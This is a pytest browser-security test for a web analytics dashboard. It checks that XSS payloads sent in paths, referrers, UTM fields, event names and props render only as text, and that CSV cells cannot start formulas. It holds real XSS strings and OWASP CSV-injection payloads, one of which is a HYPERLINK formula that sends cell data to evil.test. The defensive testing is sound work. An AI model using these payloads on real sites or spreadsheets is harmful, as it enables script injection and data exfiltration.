"""Hostile beacons through the real collector → pipeline → site, then real Chromium.

Paths, referrers, UTM values, event names and props carry HTML, SVG and JS payloads. No
dialog may fire on any page, no element may be injected, and every payload must read as
plain text where the dashboard shows it.
"""

from __future__ import annotations

import csv
import io
import json
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import duckdb
import pytest

from footfall import config as config_mod
from pipeline import run
from reports import render_site
from tests.helpers import CHROME_UA, IPHONE_UA, read_lines

pytestmark = [pytest.mark.browser, pytest.mark.slow]

UTM = {
    "utm_source": "<img src=x onerror=alert('utm_source')>",
    "utm_medium": "\"><script>alert('utm_medium')</script>",
    "utm_campaign": "</title><svg/onload=alert('utm_campaign')>",
}
PATHS = ["/<script>alert('path')</script>", "/\"><svg onload=alert('attr')>",
         "/javascript:alert('href')"]
REFERRER = "https://evil.test/'><img src=x onerror=alert('referrer')>"
EVENT = "<img src=x onerror=alert('event')>"
PROPS = {"<b onmouseover=alert('key')>k</b>": "javascript:alert('value')",
         "plan": "</td></tr><script>alert('prop')</script>"}


def _post(url: str, body: dict[str, Any], ua: str) -> int:
    req = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
                                 headers={"User-Agent": ua, "Content-Type": "text/plain"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return int(resp.status)


def test_payloads_render_as_text_and_never_run(browser: Any, collector_process: Any,
                                               tmp_path: Path) -> None:
    funnel = {"name": "<i>Signup</i>", "site": "example.com",
              "steps": [{"name": "Evil page", "path": "/*"}, {"name": "Evil event",
                                                               "event": EVENT}]}
    collector = collector_process(funnels=[funnel])
    api = f"{collector.url}/api/event"
    sent = 0
    for i, path in enumerate(PATHS):
        ua = CHROME_UA if i % 2 == 0 else IPHONE_UA
        url = f"https://example.com{path}?{urlencode(UTM)}"
        assert _post(api, {"n": "pageview", "d": "example.com", "u": url, "r": REFERRER},
                     ua) == 202
        assert _post(api, {"n": EVENT, "d": "example.com", "u": url, "p": PROPS}, ua) == 202
        sent += 2
    deadline = time.monotonic() + 10
    while len(read_lines(tmp_path / "data")) < sent and time.monotonic() < deadline:
        time.sleep(0.05)
    cfg = config_mod.load(tmp_path / "config.yaml")
    run(cfg, progress=None)
    render_site(cfg)

    con = duckdb.connect(str(cfg.database), read_only=True)
    stored = {str(v) for row in con.execute(
        "select distinct path, referrer, utm_source, utm_medium, utm_campaign from events"
    ).fetchall() for v in row if v}
    stored |= {str(r[0]) for r in con.execute(
        "select distinct name from events where name <> 'pageview'").fetchall()}
    stored |= {str(v) for r in con.execute(
        "select distinct prop, value from daily_event_props").fetchall() for v in r}
    con.close()
    assert any("<script>" in s for s in stored) and EVENT in stored
    assert {UTM["utm_source"], PROPS["plan"]} <= stored

    context = browser.new_context()
    dialogs: list[str] = []
    context.on("page", lambda p: p.on("dialog", lambda d: (dialogs.append(d.message),
                                                           d.dismiss())))
    pages = sorted(cfg.site_dir.glob("*.html")) + sorted(cfg.site_dir.glob("*/*.html"))
    assert len(pages) > 5
    for html in pages:
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(html.as_uri(), wait_until="load")
        page.mouse.move(200, 300)
        injected = page.evaluate("""() => [
            document.scripts.length,
            document.querySelectorAll('img, iframe, object, embed, [onerror], [onload], '
                                      + '[onmouseover], b, i').length,
            [...document.querySelectorAll('a[href]')].filter(a => /^javascript:/i.test(
                a.getAttribute('href'))).length]""")
        assert injected == [0, 0, 0], html
        if html.name == "index.html" and html.parent.name == "example.com":
            text = page.inner_text("body")
            titles = page.evaluate(
                "[...document.querySelectorAll('[title]')].map(e => e.title).join('\\n')")
            for payload in stored:
                if payload not in ("example.com",):
                    assert payload in text, payload
            assert PATHS[1] in titles and "<i>Signup</i>" in text
        page.close()
    context.close()
    assert dialogs == []
    csv_text = (cfg.site_dir / "example.com" / "csv" / "30d" / "utm-source.csv").read_text()
    assert UTM["utm_source"] in csv_text


CORPUS = [line for line in (Path(__file__).parent / "fixtures" / "xss.txt").read_text(
    encoding="utf-8").splitlines() if line and not line.startswith("# ")]
# OWASP's CSV injection shapes: each starts with a character FORMULA_START names
FORMULAS = ["=HYPERLINK(\"http://evil.test?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|x!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1;key"]
UTM_KEYS = ("utm_source", "utm_medium", "utm_campaign", "utm_term", "utm_content")
# What a payload would leave in a page's body if it got out of its text: elements and
# attributes the dashboard's body never uses (no script, image, frame, form or handler; its own
# <details> are found by their handlers if a payload ever adds one).
INJECTED = """() => {
    const all = [...document.querySelectorAll('*')];
    return {
        scripts: document.scripts.length,
        elements: document.body.querySelectorAll('img, image, iframe, object, embed, video, audio, '
            + 'form, input, button, textarea, select, base, link, meta[http-equiv], portal, '
            + 'marquee, dialog, isindex, keygen, math, foreignObject, use, set, '
            + 'animate, template, noscript, xmp, plaintext, b, i').length,
        handlers: all.filter(e => [...e.attributes].some(a => /^on/i.test(a.name))).length,
        urls: [...document.body.querySelectorAll('*')].filter(e => [...e.attributes].some(
            a => /^\\s*(javascript|data|vbscript):/i.test(a.value)
                 && /^(href|src|action|formaction|data|xlink:href)$/i.test(a.name))).length,
        styles: all.filter(e => /expression\\(|url\\(/i.test(e.getAttribute('style') || ''))
            .length,
    };
}"""


def test_the_corpus_in_every_field_and_config_name_never_runs(
        browser: Any, collector_process: Any, tmp_path: Path) -> None:
    """Every payload of tests/fixtures/xss.txt (and the CSV formulas) in every tracked field,
    and in the names the config gives: the site's, the funnels' and their steps'."""
    from footfall.contract import MAX_NAME, MAX_URL
    from footfall.csvcell import FORMULA_START

    payloads = CORPUS + FORMULAS
    assert len(CORPUS) >= 100
    funnels = [{"name": payloads[i], "site": "example.com",
                "steps": [{"name": payloads[i + 1], "path": "/*"},
                          {"name": payloads[i + 2], "event": payloads[i + 2][:MAX_NAME]}]}
               for i in range(0, 30, 3)]
    sites = [{"domain": "example.com", "timezone": "UTC", "name": payloads[0]},
             {"domain": "shop.test", "timezone": "UTC", "name": payloads[-1]}]
    collector = collector_process(sites=sites, funnels=funnels,
                                  collector={"rate_limit_per_min": 10**9})
    api = f"{collector.url}/api/event"
    sent = 0
    names: set[str] = set()
    for i, payload in enumerate(payloads):
        ua = CHROME_UA if i % 2 == 0 else IPHONE_UA
        page = f"https://example.com/{payload}"
        urls = [f"{page}?" + urlencode({k: payload for k in UTM_KEYS})]
        if len(urls[0]) > MAX_URL:  # the long polyglots: one campaign field at a time
            urls = [f"{page}?" + urlencode({k: payload}) for k in UTM_KEYS]
        for url in urls:
            assert _post(api, {"n": "pageview", "d": "example.com", "u": url,
                               "r": f"https://evil.test/{payload}"}, ua) == 202
            sent += 1
        name = payload[:MAX_NAME]
        if name[0] in "\t\r":  # an event name must be printable: refused with a reason
            with pytest.raises(urllib.error.HTTPError, match="400"):
                _post(api, {"n": name, "d": "example.com", "u": urls[0]}, ua)
            name = "Formula " + name.strip()
        names.add(name)
        assert _post(api, {"n": name, "d": "example.com", "u": urls[0],
                           "p": {payload[:300]: payload, "plan": payload}}, ua) == 202
        sent += 1
    deadline = time.monotonic() + 10
    while len(read_lines(tmp_path / "data")) < sent and time.monotonic() < deadline:
        time.sleep(0.05)
    cfg = config_mod.load(tmp_path / "config.yaml")
    run(cfg, progress=None)
    render_site(cfg)

    con = duckdb.connect(str(cfg.database), read_only=True)
    stored = {r[0] for r in con.execute("select distinct name from events").fetchall()}
    values = {r[0] for r in con.execute("select distinct value from daily_event_props")
              .fetchall()}
    con.close()
    assert names <= stored  # every payload reached the marts
    # control characters in props are cleaned by the collector; the rest arrive as sent
    assert {p for p in payloads if p[0] not in "\t\r"} <= values

    context = browser.new_context()
    dialogs: list[str] = []
    requests: list[str] = []
    context.on("page", lambda p: p.on("dialog", lambda d: (dialogs.append(d.message),
                                                           d.dismiss())))
    pages = sorted(cfg.site_dir.rglob("*.html"))
    assert len(pages) > 5
    shown = ""
    for html in pages:
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: requests.append(r.url))
        page.goto(html.as_uri(), wait_until="load")
        page.mouse.move(200, 300)
        page.keyboard.press("Tab")
        found = page.evaluate(INJECTED)
        assert set(found.values()) == {0}, (html, found)
        shown += page.inner_text("body")
        page.close()
    assert dialogs == []
    # the census is not blind: the same payloads let out raw on purpose are caught
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.set_content("<body>" + "".join(CORPUS[9:30]) + "</body>")
    caught = page.evaluate(INJECTED)
    page.close()
    context.close()
    assert all(caught[k] for k in ("scripts", "elements", "handlers", "urls")), caught
    assert dialogs, "a payload let out should have opened a dialog"
    assert {r for r in requests if not r.startswith("file://")} == set()
    assert payloads[0] in shown and payloads[3] in shown  # names from the config, as text
    assert sum(p in shown for p in CORPUS) >= 30  # the panels' top rows, as text

    # CSV formula injection: no text cell of any CSV, headers included, can start a formula
    csvs = sorted(cfg.site_dir.rglob("*.csv")) + sorted(cfg.data_dir.rglob("*.csv"))
    assert len(csvs) > 5
    checked = 0
    for path in csvs:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    assert _number(cell), f"{path.name}: {cell!r}"
                checked += any(f in cell for f in FORMULAS)
    assert checked > 0  # the formulas did reach the CSVs, guarded


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
